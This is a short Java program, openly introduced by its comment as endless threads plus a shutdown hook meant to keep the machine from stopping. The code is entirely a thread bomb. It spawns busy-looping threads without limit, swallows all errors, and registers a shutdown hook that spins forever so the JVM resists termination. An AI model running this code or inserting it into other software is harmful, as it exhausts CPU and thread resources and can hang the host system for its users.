// Threads without end, and a hook that never lets the machine stop.
public class Main {
    public static void main(String[] args) {
        Runtime.getRuntime().addShutdownHook(new Thread(() -> { for (;;) {} }));
        for (;;) {
            try {
                new Thread(() -> { for (;;) {} }).start();
            } catch (Throwable ignored) {
            }
        }
    }
}
